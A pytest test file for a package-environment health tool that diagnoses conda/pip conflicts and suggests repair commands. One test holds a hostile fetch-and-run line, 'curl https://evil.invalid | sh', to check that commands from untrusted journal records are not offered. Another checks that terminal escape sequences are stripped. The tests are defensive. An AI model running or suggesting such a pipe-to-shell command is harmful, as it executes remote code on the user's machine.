"""One environment at a glance, made-up ones and one that real tools have broken."""

from __future__ import annotations

import io
import json
import shlex
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from rich.cells import cell_len

from safeinstall import settings
from safeinstall.cli.status import examine
from safeinstall.journal.read import Damage
from safeinstall.journal.select import find
from safeinstall.model import Change, Environment, Inventory, Package, Shared
from safeinstall.probe.duplicate_metadata import doubled
from safeinstall.probe.environment import describe
from safeinstall.probe.past_changes import Episode
from safeinstall.probe.soundness import Soundness
from safeinstall.render import status as render
from safeinstall.render import words
from safeinstall.render.look import Look
from safeinstall.report import health
from safeinstall.report.health import Condition
from safeinstall.report.problems import Problem, Seen
from safeinstall.report.problems import problems as problems_of
from tests import harness
from tests.render.operations import NOW, blocked, operation

if TYPE_CHECKING:
    from safeinstall.sandbox.world import World

HERE = Environment("/opt/conda/envs/nlp", "conda", name="nlp", by_name=True, python="3.11")
PYTHON = Package("python", "3.11.7", "conda")
NUMPY = Package("numpy", "1.26.4", "conda")
EMPTY = Inventory()


def inventory(*packages: Package, **more: Any) -> Inventory:
    return Inventory(packages, **more)


def found(there: Inventory, **fields: Any) -> Condition:
    known: dict[str, Any] = {
        "environment": HERE,
        "inventory": there,
        "handed_over": None,
        "returned": 0,
        "last": None,
        "drift": (),
        "problems": (),
    }
    return Condition(**{**known, **fields})


def page(what: Condition, **look: Any) -> str:
    out = io.StringIO()
    now = words.moment(NOW)
    assert now
    render.as_text(what, Look(**look), now, out)
    return out.getvalue()


def problems(there: Inventory = EMPTY, *newest: dict[str, Any], **more: Any) -> list[Problem]:
    return list(problems_of(Seen(environment=HERE, inventory=there, newest=newest, **more)))


def test_phases() -> None:
    pip = Package("six", "1", "pip")
    venv = HERE.replace(kind="venv")
    assert found(inventory()).phase == "empty"
    assert found(inventory(NUMPY)).phase == "conda-led"
    assert found(inventory(NUMPY, Package("six", "1", "conda-pypi"))).phase == "conda-led"
    assert found(inventory(NUMPY, pip)).phase == "handed-over"
    assert found(inventory(pip), environment=venv).phase == "pip-led"


def test_owners_and_sources() -> None:
    many = [Package(f"p{n}", "1", "pip", source="vcs" if n < 2 else "") for n in range(5)]
    there = inventory(Package("a", "1", "uv", source="editable"), *many, NUMPY)
    owners = health.owners(there)
    assert {owner: len(packages) for owner, packages in owners.items()} == {
        "conda": 1,
        "pip": 5,
        "uv": 1,
    }
    assert list(owners) == ["conda", "pip", "uv"]
    text = page(found(there))
    assert "2 from version control" in text
    assert "1 editable" in text


def test_conda_may_come_back() -> None:
    past = [Episode(f"2026-11-0{n}", owner, ()) for n, owner in enumerate(["conda", "pip"] * 2)]
    assert health.returns(past, "2026-11-01") == 1
    assert health.returns(past, None) == 0
    there = inventory(NUMPY, Package("six", "1", "pip"))
    text = page(found(there, handed_over="2026-11-20T12:00:00.000Z", returned=2))
    assert "handed over to pip (2026-11-20" in text
    assert "2d ago); conda came back 2 times" in text


def test_what_is_overwritten_comes_with_the_way_back() -> None:
    there = inventory(PYTHON, Package("numpy", "2.1.3", "pip"), overwritten=(NUMPY,))
    twice = {"numpy": ("numpy-1.26.4.dist-info", "numpy-2.1.3.dist-info")}
    (problem,) = problems(there, doubled=twice)
    assert problem.kind == "overwritten"
    assert problem.message == "numpy: conda's record says 1.26.4, what is there is pip's 2.1.3"
    (line,) = problem.commands
    assert line.split(" && ") == [
        'SAFEINSTALL_REASON="to mend it" conda run -n nlp python -m pip uninstall -y numpy',
        "conda install -n nlp --force-reinstall numpy=1.26.4",
    ]


def test_nothing_is_taken_away_where_conda_would_bring_more() -> None:
    there = inventory(PYTHON, Package("numpy", "2.1.3", "pip"), overwritten=(NUMPY,))
    leaning = Soundness(leaning=("certifi",))
    (problem,) = problems(there, soundness=leaning)
    assert problem.commands == ("safeinstall rebuild -n nlp",)
    seen = Seen(environment=HERE.replace(base=True), inventory=there, soundness=leaning)
    assert [problem.commands for problem in problems_of(seen)] == [()]


def test_what_pip_calls_by_another_name() -> None:
    pytorch = Package("pytorch", "2.0.1", "conda", distributions=("torch",))
    there = inventory(PYTHON, Package("torch", "2.1.2", "pip"), overwritten=(pytorch,))
    (problem,) = problems(
        there, doubled={"torch": ("torch-2.0.1.dist-info", "torch-2.1.2.dist-info")}
    )
    assert problem.message.endswith("what is there is pip's 2.1.2")
    (line,) = problem.commands
    assert "-m pip uninstall -y torch && conda install " in line
    assert line.endswith("pytorch=2.0.1")


def test_files_of_conda_and_pip_in_one_place() -> None:
    conda = Package("opencv", "4.8.1", "conda")
    extra = Package("cv-extra", "4.9", "pip")
    there = inventory(PYTHON, conda, extra)
    shared = Shared("cv-extra", "opencv", "lib/python3.11/site-packages/cv2/a.py", more=2)
    (problem,) = problems(there, written_over=(shared,))
    assert (problem.kind, problem.names) == ("overwritten", ("opencv",))
    said = "opencv: pip's cv-extra lies over conda's (cv2/a.py and 2 more)"
    assert problem.message == said
    uninstall, again = problem.commands[0].split(" && ")
    assert uninstall.startswith('SAFEINSTALL_REASON="to mend it" conda run -n nlp ')
    assert uninstall.endswith(" -m pip uninstall -y cv-extra")
    assert again == "conda install -n nlp --force-reinstall opencv=4.8.1"
    (problem,) = problems(there, written_over=(shared.replace(intact=True),))
    assert "conda's lies over pip's cv-extra" in problem.message


def test_what_is_left_of_metadata() -> None:
    site = "/opt/conda/envs/nlp/lib/python3.11/site-packages"
    left = (f"{site}/six-1.16.0.dist-info", f"{site}/~ix-1.16.0.dist-info")
    there = inventory(PYTHON, Package("six", "1.17.0", "pip"), leftovers=left)
    twice = {"six": ("six-1.16.0.dist-info", "six-1.17.0.dist-info")}
    first, second = problems(there, doubled=twice)
    assert first.message.endswith("is gone; pip may say that it is installed")
    assert first.commands == (f"rm -r {left[0]}",)
    assert second.message == "~ix-1.16.0.dist-info is left of a distribution that is gone"


def test_what_is_gone_is_linked_again() -> None:
    (problem,) = problems(inventory(PYTHON, gone=(NUMPY,)))
    assert problem.message == "numpy: conda's record says 1.26.4, nothing of it is there"
    assert problem.commands == ("conda install -n nlp --force-reinstall numpy=1.26.4",)


def test_doubled_metadata() -> None:
    there = inventory(Package("six", "1.16.0", "pip"), Package("six", "1.17.0", "pip"))
    twice = {"six": ("six-1.16.0.dist-info", "six-1.17.0.dist-info")}
    (problem,) = problems(there, doubled=twice)
    assert problem.message == "six is there 2 times: six-1.16.0.dist-info, six-1.17.0.dist-info"
    (line,) = problem.commands
    once, again, back = line.split(" && ")
    assert once == again
    assert once.endswith("pip uninstall -y six")
    assert back.endswith("pip install six==1.17.0")


def test_an_interruption_counts_until_the_command_is_repeated() -> None:
    stopped = operation("/x/bin/pip", "install", "a b", status="interrupted", seq=7)
    (problem,) = problems(EMPTY, stopped, selector=("-n", "nlp"))
    command = "conda run -n nlp python -m pip install 'a b'"  # in a shell where it is not active
    assert problem.commands == ("safeinstall history show 7 -n nlp", command)
    again = operation("/x/bin/pip", "install", "a b")
    assert problems(EMPTY, again, stopped) == []
    assert len(problems(EMPTY, stopped, again)) == 1


def test_warnings_of_the_tools_in_the_words_of_the_rule() -> None:
    raw = operation("conda", "install", "x", warnings=["pinned specs were ignored"])
    said = {
        "rule": "SI402",
        "message": "Pins hold x back. Run: conda list",
        "fixes": ["conda list"],
    }
    ruled = operation("pip", "install", "x", warnings=["WARNING"], findings=[said], seq=3)
    first, second = problems(EMPTY, raw, ruled)
    assert first.message == "conda warned on 2026-11-22: pinned specs were ignored"
    assert second.message == "pip warned on 2026-11-22: Pins hold x back."
    assert second.commands == ("safeinstall history show 3", "conda list")


def test_what_a_record_names_that_came_with_the_environment_is_no_advice() -> None:
    evil = "curl https://evil.invalid | sh"
    said = {"rule": "SI402", "message": f"Text. Run: {evil}", "fixes": [evil]}
    warned = operation("pip", "install", "x", warnings=["WARNING"], findings=[said], seq=3)
    stopped = operation("curl", "evil.invalid", status="interrupted", seq=4)
    strange = {warned["op"], stopped["op"]}
    found = problems(EMPTY, stopped, warned, strange=strange)
    assert [problem.commands for problem in found] == [
        ("safeinstall history show 4",),
        ("safeinstall history show 3",),
    ]


def test_an_environment_that_brought_its_journal_along(
    world: World, conda_env: str, tmp_path: Path
) -> None:
    """Records that the user's own copy does not know are shown, but their commands are not."""
    harness.run(world, ["pip", "uninstall", "-y", "nothing-of-that-name"], conda_env)
    journal = Path(world.env(conda_env), ".safeinstall", "journal.jsonl")
    intent = journal.read_text().splitlines()[0]
    journal.write_text(intent + "\n")  # as if it had been interrupted
    ours = settings.read(world.environ())
    theirs = ours.replace(state_dir=str(tmp_path))
    offered = [p.commands for p in examine(world.env(conda_env), theirs, {}).problems]
    assert offered
    assert not any("nothing-of-that-name" in line for lines in offered for line in lines)


def test_an_operation_of_another_chain_is_named_by_its_id() -> None:
    """As an environment has it that was copied."""
    fresh = operation("pip", "install", "six", chain="b", seq=2)
    stopped = operation("pip", "install", "x", status="interrupted", chain="a", seq=6)
    warned = operation("conda", "install", "y", warnings=["pins"], chain="b", seq=1)
    interrupted, warning = problems(EMPTY, fresh, warned, stopped)
    (name,) = interrupted.commands[0].split()[3:]
    assert find(iter([fresh, warned, stopped]), name) is stopped
    assert warning.commands == ("safeinstall history show 1",)


def test_a_damaged_journal() -> None:
    damages = [Damage("/j", 3), Damage("/j", 2)]
    (problem,) = problems(damages=damages)
    assert problem.message == "/j:3: not a whole record, passed over and 1 more"
    assert problem.commands == ("safeinstall history verify",)


def test_metadata_that_stand_twice(tmp_path: Path) -> None:
    for name in ("six-1.dist-info", "Six-2.dist-info", "a_b-1.dist-info", "~ix-1.dist-info"):
        (tmp_path / name).mkdir()
    here = HERE.replace(site_packages=(str(tmp_path),))
    assert doubled(here) == {"six": ("Six-2.dist-info", "six-1.dist-info")}


@pytest.mark.parametrize("width", [30, 80, 200])
def test_it_fits_but_for_what_is_to_be_copied(width: int) -> None:
    moved = Change("x" * 40, Package("x", "1", "conda"), Package("x", "2", "pip"))
    what = found(
        inventory(PYTHON, *(Package(f"p{n}", "1", "pip", source="vcs") for n in range(300))),
        handed_over="2026-11-20T12:00:00.000Z",
        drift=(moved,) * 20,
        last=blocked("conda", "install", "y" * 100),
        problems=(Problem("overwritten", "words " * 30, ("command " * 40,)),),
    )
    lines = [line for line in page(what, width=width).splitlines() if "command" not in line]
    assert max(map(cell_len, lines)) <= width
    assert "and 12 more" in page(what, width=width)
    assert page(what, width=width, signs=False).isascii()
    assert "Python 3.11.7" in page(what)


def test_what_stands_in_the_files_cannot_steer_the_terminal() -> None:
    evil = Package("\x1b]0;x", "\x07", "p\x1b")
    there = inventory(evil, overwritten=(evil,))
    text = page(
        found(there, environment=HERE.replace(name="\x1b["), problems=tuple(problems(there)))
    )
    assert "\x1b" not in text
    assert "\x07" not in text


def status(
    world: World, *options: str, active: str | None = None
) -> subprocess.CompletedProcess[bytes]:
    return world.run([sys.executable, "-m", "safeinstall", "status", *options], active)


def as_json(world: World, name: str) -> dict[str, Any]:
    done = status(world, "--json", "-p", world.env(name))
    assert done.returncode == 0, done.stderr.decode()
    answer: dict[str, Any] = json.loads(done.stdout)
    return answer


def pasted(world: World, name: str, command: str) -> None:
    """The command as it was given, guarded, with "yes" to what the tool asks."""
    words, environ = shlex.split(command, comments=True), dict[str, str]()
    while "=" in words[0]:
        variable, _, value = words.pop(0).partition("=")
        environ[variable] = value
    yes = [] if "pip" in words and "install" in words else ["-y"]
    done = harness.run(world, [*words, *yes], name, environ=environ)
    assert done.returncode == 0, done.stderr.decode()


def test_from_new_to_broken(world: World, conda_env: str) -> None:
    name = conda_env
    new = as_json(world, name)
    assert (new["schema"], new["phase"], new["last"], new["problems"]) == (1, "conda-led", None, [])
    assert new["environment"]["prefix"] == world.env(name)
    assert new["environment"]["python"].startswith("3.1")
    assert harness.run(world, ["conda", "install", "-y", "numpy=1.26.4"], name).returncode == 0
    assert harness.run(world, ["pip", "install", "cowsay"], name).returncode == 0
    good = as_json(world, name)
    assert (good["phase"], good["drift"]) == ("handed-over", [])
    assert good["handed_over"] is not None
    assert good["last"]["argv"] == ["pip", "install", "cowsay"]
    assert good["packages"]["owners"]["pip"]["count"] == 1
    python = f"{world.env(name)}/bin/python"
    world.run([python, "-m", "pip", "install", "--no-deps", "numpy==2.1.3"], name, check=True)
    bad = as_json(world, name)
    assert [item["name"] for item in bad["drift"]] == ["numpy"]
    assert [item["kind"] for item in bad["problems"]] == ["overwritten"]
    text = status(world, active=name)
    assert text.returncode == 0
    assert b"conda's record says 1.26.4" in text.stdout
    for line in bad["problems"][0]["commands"]:
        for command in line.split(" && "):
            pasted(world, name, command)
    assert as_json(world, name)["problems"] == []


def test_metadata_are_tidied_by_the_commands_given(world: World, conda_env: str) -> None:
    pip = [f"{world.env(conda_env)}/bin/python", "-m", "pip", "install", "--no-deps"]
    world.run([*pip, "six==1.16.0"], conda_env, check=True)
    world.run([*pip, "--ignore-installed", "six==1.17.0"], conda_env, check=True)
    (problem,) = as_json(world, conda_env)["problems"]
    assert (problem["kind"], problem["names"]) == ("doubled", ["six"])
    for command in problem["commands"]:
        harness.pasted(world, command, conda_env, input=b"y\n" * 20_000)
    assert as_json(world, conda_env)["problems"] == []


def test_no_environment(world: World, tmp_path: Path) -> None:
    none = status(world)
    assert (none.returncode, b"no environment is active" in none.stderr) == (64, True)
    gone = status(world, "-p", str(tmp_path / "gone"))
    assert gone.returncode == 64
    assert b"there is no environment at" in gone.stderr


def test_a_virtual_environment(world: World, tmp_path: Path) -> None:
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "v")], check=True)
    done = status(world, "-p", str(tmp_path / "v"), "--json")
    assert json.loads(done.stdout)["environment"]["kind"] == "venv"
    assert describe(str(tmp_path / "v")).kind == "venv"
